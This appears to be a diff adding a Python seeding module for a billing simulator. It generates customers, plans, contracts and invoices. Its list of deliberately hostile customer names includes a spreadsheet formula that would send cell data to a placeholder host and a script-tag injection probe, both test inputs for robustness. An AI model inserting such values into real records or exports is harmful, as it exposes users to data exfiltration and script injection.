@@ -1,0 +1,297 @@
+"""A believable account: the same seed gives the same world, except for the calendar."""
+
+from __future__ import annotations
+
+import random
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+from simulator.checks import rfc3339
+from simulator.customers import add
+from simulator.plans import put_plan
+from simulator.world import World
+
+FIRST = [
+    "Halcyon",
+    "Northwind",
+    "Blue",
+    "Iron",
+    "Silver",
+    "Copper",
+    "Meridian",
+    "Alder",
+    "Cedar",
+    "Falcon",
+    "Harbor",
+    "Lumen",
+    "Quartz",
+    "Saffron",
+    "Tidal",
+    "Umber",
+    "Vertex",
+    "Willow",
+    "Zephyr",
+    "Amber",
+    "Borealis",
+    "Cascade",
+    "Delta",
+    "Ember",
+    "Fjord",
+    "Granite",
+    "Horizon",
+    "Indigo",
+    "Juniper",
+    "Krone",
+    "Lark",
+    "Maple",
+]
+SECOND = [
+    "Freight",
+    "Analytics",
+    "Robotics",
+    "Health",
+    "Energy",
+    "Foods",
+    "Logistics",
+    "Media",
+    "Mobility",
+    "Networks",
+    "Optics",
+    "Payments",
+    "Retail",
+    "Security",
+    "Software",
+    "Studios",
+    "Systems",
+    "Telecom",
+    "Textiles",
+    "Therapeutics",
+    "Travel",
+    "Ventures",
+    "Water",
+    "Works",
+    "Cloud",
+    "Labs",
+    "Data",
+    "Grid",
+    "Bio",
+    "Games",
+]
+FORMS = [
+    "GmbH",
+    "Inc.",
+    "Ltd",
+    "AB",
+    "S.A.",
+    "BV",
+    "LLC",
+    "Oy",
+    "AS",
+    "SpA",
+    "K.K.",
+    "Pty Ltd",
+    "& Sons",
+    "Group",
+]
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"Invoice")',
+    "<script>alert('billing')</script>",
+    "🚀 Rocket Cat 🐈 Industries 🌍",
+    "شركة النور للتجارة",
+    "חברת האור בע״מ",
+    "株式会社 東雲データ",
+    "+1-800-FLOWERS",
+    "@channel Marketing",
+    "-Minus Delta",
+    'O\'Brien "Quotes" & <b>Sons</b>',
+    "A" * 159 + "Z",
+    "Ａｌｉｃｅ Fullwidth",
+    "naïve café Überprüfung",
+    "Tab\u00a0and nonbreaking",
+]
+PLANS = ["Starter", "Team", "Growth", "Scale", "Enterprise", "Usage only", "Legacy 2019", "Startup program"]
+PLANS += ["Education", "Partner", "Internal", "Archive 2021"]
+KEYS = ["erp_id", "segment", "owner", "cost_center"]
+SEGMENTS = ["enterprise", "mid-market", "small business", "public sector"]
+OWNERS = ["Ana Ruiz", "Jonas Weber", "Mei Tan", "Priya Raman", "Tom Okafor"]
+CURRENCIES = [
+    {"id": "2714e483-4ff1-48e4-9e25-ac732e8f24f2", "name": "USD (cents)"},
+    {"id": "5a1d9f6e-3b1c-4c38-9a63-2f6f0f6b7a01", "name": "EUR"},
+    {"id": "8f0a4d3b-7c55-4a56-8b1e-93c1f9f1c702", "name": "GBP"},
+    {"id": "c2b7e5a9-1f2d-4d39-b1aa-0d6a1f0e4803", "name": "JPY"},
+]
+
+
+def seeded(*, customers: int = 2_500, plans: int = 12, seed: int = 7) -> World:
+    """A world with so many customers and plans. Contracts and invoices hang on about two in five customers."""
+    world, dice = World(seed=seed), random.Random(seed)
+    today = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
+    for key in KEYS:
+        world.custom_field_keys.append(
+            {"entity": "customer", "key": key, "enforce_uniqueness": key == "erp_id"}
+        )
+    for number in range(plans):
+        plan_id = world.new_id()
+        name = PLANS[number % len(PLANS)] + (f" {number // len(PLANS) + 1}" if number >= len(PLANS) else "")
+        world.plans[plan_id] = {
+            "id": plan_id,
+            "name": name,
+            "description": f"{name} plan, billed monthly in arrears",
+            "custom_fields": {},
+            "charges": [],
+        }
+    plan_ids = list(world.plans)
+    for number in range(customers):
+        _customer(world, dice, number, today, plan_ids)
+    world.random.seed(f"{seed} after seeding")
+    return world
+
+
+def _name(dice: random.Random, number: int) -> str:
+    if number < len(HOSTILE):
+        return HOSTILE[number]
+    return f"{dice.choice(FIRST)} {dice.choice(SECOND)} {dice.choice(FORMS)}"
+
+
+def _aliases(dice: random.Random, name: str, number: int) -> list[str]:
+    slug = "".join(letter if letter.isascii() and letter.isalnum() else "-" for letter in name.lower())[
+        :40
+    ].strip("-")
+    slug = slug or "customer"
+    aliases = [
+        f"{slug}-{number}",
+        f"acct_{dice.getrandbits(48):012x}",
+        f"{slug}-eu-{number}",
+        f"{slug} {number} ",
+    ]
+    if number == 20:
+        return [f"fleet-{each:04d}" for each in range(2_000)]
+    return aliases[: dice.choice([1, 1, 2, 2, 3])] + ([aliases[3]] if number % 97 == 5 else [])
+
+
+def _customer(world: World, dice: random.Random, number: int, today: datetime, plan_ids: list[str]) -> None:
+    created = today - timedelta(days=dice.randint(30, 1_500), seconds=dice.randint(0, 86_399))
+    name = _name(dice, number)
+    custom = {"erp_id": f"ERP-{100_000 + number}", "segment": dice.choice(SEGMENTS)}
+    if dice.random() < 0.5:
+        custom["owner"] = dice.choice(OWNERS)
+    customer = add(world, name, _aliases(dice, name, number), custom, rfc3339(created))
+    customer["customer_config"] = {"salesforce_account_id": f"0015g00000{dice.getrandbits(32):08X}"[:18]}
+    if plan_ids and dice.random() < 0.7:
+        _subscriptions(world, dice, customer, created, today, plan_ids)
+    if dice.random() < 0.4:
+        _contract_and_invoices(world, dice, customer, created, today)
+    if number >= len(HOSTILE) and dice.random() < 0.04:
+        at = rfc3339(today - timedelta(days=dice.randint(1, 29)))
+        customer["archived_at"] = customer["updated_at"] = at
+        for contract in world.contracts.get(customer["id"], []):
+            contract["archived_at"] = at
+        for invoice in world.invoices.get(customer["id"], []):
+            invoice["status"] = "VOID"
+
+
+def _subscriptions(
+    world: World,
+    dice: random.Random,
+    customer: dict[str, Any],
+    created: datetime,
+    today: datetime,
+    plan_ids: list[str],
+) -> None:
+    start = created.replace(hour=0, minute=0, second=0, microsecond=0)
+    shape, plan = dice.random(), dice.choice(plan_ids)
+    if shape < 0.75:
+        put_plan(world, customer["id"], plan, rfc3339(start), None, 30)
+    elif shape < 0.9:
+        put_plan(world, customer["id"], plan, rfc3339(start), rfc3339(today - timedelta(days=9)), 30)
+        put_plan(world, customer["id"], dice.choice(plan_ids), rfc3339(today - timedelta(days=9)), None, 14)
+    else:
+        put_plan(
+            world, customer["id"], plan, rfc3339(today + timedelta(days=dice.randint(5, 60))), None, None
+        )
+
+
+def _contract_and_invoices(
+    world: World, dice: random.Random, customer: dict[str, Any], created: datetime, today: datetime
+) -> None:
+    start = created.replace(minute=0, second=0, microsecond=0)
+    currency = dice.choices(CURRENCIES, weights=[5, 3, 1, 1])[0]
+    contract = {
+        "id": world.new_id(),
+        "customer_id": customer["id"],
+        "name": f"{customer['name'].split(' ')[0][:30]} {start.year}",
+        "starting_at": rfc3339(start),
+        "ending_before": rfc3339(today + timedelta(days=dice.randint(30, 700)))
+        if dice.random() < 0.6
+        else None,
+        "archived_at": None,
+        "created_at": rfc3339(start),
+        "created_by": "seed",
+        "rate_card_id": "3f0c1e0e-5d3f-4c11-9c0f-57c0a3f1c904",
+        "commits": [],
+        "credits": [],
+        "overrides": [],
+        "scheduled_charges": [],
+        "transitions": [],
+        "subscriptions": [],
+        "usage_filter": [],
+        "usage_statement_schedule": {
+            "frequency": "MONTHLY",
+            "billing_anchor_date": rfc3339(start.replace(day=1, hour=0)),
+        },
+        "has_more": {"commits": False, "credits": False},
+    }
+    world.contracts[customer["id"]] = [contract]
+    month = today.replace(day=1)
+    rows = []
+    for back in range(dice.randint(1, 6)):
+        begin = (month - timedelta(days=31 * back)).replace(day=1)
+        end = (begin + timedelta(days=32)).replace(day=1)
+        cents = dice.randint(1_000, 9_000_000)
+        total = cents if currency["name"] in ("USD (cents)", "JPY") else cents / 100
+        rows.append(_invoice(world, customer, contract, currency, begin, end, total, draft=back == 0))
+    world.invoices[customer["id"]] = rows[::-1]
+
+
+def _invoice(
+    world: World,
+    customer: dict[str, Any],
+    contract: dict[str, Any],
+    currency: dict[str, str],
+    begin: datetime,
+    end: datetime,
+    total: float,
+    *,
+    draft: bool,
+) -> dict[str, Any]:
+    invoice = {
+        "id": world.new_id(),
+        "customer_id": customer["id"],
+        "customer_custom_fields": {},
+        "contract_id": contract["id"],
+        "contract_custom_fields": {},
+        "status": "DRAFT" if draft else "FINALIZED",
+        "type": "USAGE",
+        "total": total,
+        "subtotal": total,
+        "credit_type": currency,
+        "line_items": [
+            {
+                "name": "Platform usage",
+                "type": "usage",
+                "total": total,
+                "quantity": 1,
+                "unit_price": total,
+                "credit_type": currency,
+                "starting_at": rfc3339(begin),
+                "ending_before": rfc3339(end),
+            }
+        ],
+        "start_timestamp": rfc3339(begin),
+        "end_timestamp": rfc3339(end),
+        "billable_status": "billable",
+        "net_payment_terms_days": 30,
+    }
+    if not draft:
+        invoice["issued_at"] = rfc3339(end + timedelta(hours=24))
+    return invoice
